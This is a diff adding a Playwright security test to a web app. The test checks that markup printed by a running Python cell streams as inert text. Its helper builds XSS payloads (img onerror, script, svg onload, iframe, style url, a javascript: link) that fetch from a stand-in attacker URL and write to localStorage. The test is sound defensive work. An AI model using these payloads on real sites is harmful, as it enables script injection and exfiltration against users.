@@ -330,6 +330,50 @@ test("model Markdown loads nothing remote, runs nothing, restyles nothing and su
   }
 });
 
+/** Markup that would run, load, restyle or frame something if a stream of output became HTML. */
+function evilOutput(a: string): string {
+  const run = (what: string) => `localStorage.setItem('${MARKER}', '${what}'); fetch('${a}/${what}')`;
+  return [
+    `<img src="${a}/out-img" onerror="${run("out-onerror")}">`,
+    `<script>${run("out-script")}</script>`,
+    `<style>* { background: url(${a}/out-style) }</style>`,
+    `<iframe src="${a}/out-iframe"></iframe>`,
+    `<svg onload="${run("out-svg")}"></svg>`,
+    `<a href="javascript:${run("out-js-link")}">link</a>`,
+  ].join("\n");
+}
+
+test("markup printed by a running cell streams as text: nothing in it loads, runs or restyles, while it runs or after", async ({ page }) => {
+  const errors = collectErrors(page);
+  await page.goto("./");
+  await waitReady(page);
+  const markup = evilOutput(attackerURL);
+  // Printed at once on both streams, then the cell keeps running, so the live view is what shows it.
+  const code = `import sys, time\nprint(${JSON.stringify(markup)}, flush=True)\nprint(${JSON.stringify(markup)}, file=sys.stderr, flush=True)\ntime.sleep(4)`;
+  await page.getByTestId("console-mode").selectOption("python");
+  await page.getByTestId("console-input").fill(code);
+  await page.getByTestId("console-run").click();
+  const output = page.getByTestId("console-output");
+  const live = output.getByTestId("live-output");
+  // Soft: a broken defence is reported, and the checks below show what it let through.
+  await expect.soft(live.getByTestId("stderr")).toHaveText(markup, { timeout: 20_000 });
+  await expect.soft(live.getByTestId("stdout")).toHaveText(markup);
+  expect.soft(await output.getAttribute("data-block")).toBeNull(); // still running
+  await screen(page, "redteam-streamed-markup");
+  await expect.soft(live.locator(TAGS_THAT_LOAD_RUN_OR_SUBMIT)).toHaveCount(0);
+  await expect.soft(live.locator("a, [onerror], [onload], [style]")).toHaveCount(0);
+
+  await expect(output).toHaveAttribute("data-block", /code_execution_result/, { timeout: 30_000 });
+  await expect.soft(output.getByTestId("stdout")).toHaveText(markup);
+  await expect.soft(output.getByTestId("stderr")).toHaveText(markup);
+  await expect.soft(output.locator(TAGS_THAT_LOAD_RUN_OR_SUBMIT)).toHaveCount(0);
+  await expect.soft(output.locator("a, [onerror], [onload], [style]")).toHaveCount(0);
+  await positiveControl(page);
+  expect.soft(requests).toEqual(["GET /control"]);
+  expect.soft(await page.evaluate((marker) => localStorage.getItem(marker), MARKER)).toBeNull();
+  expect(errors).toEqual([]);
+});
+
 test("a poisoned service worker cache entry is dropped and fetched again, never served", async ({ page, request }) => {
   const errors = collectErrors(page);
   await page.goto("./");
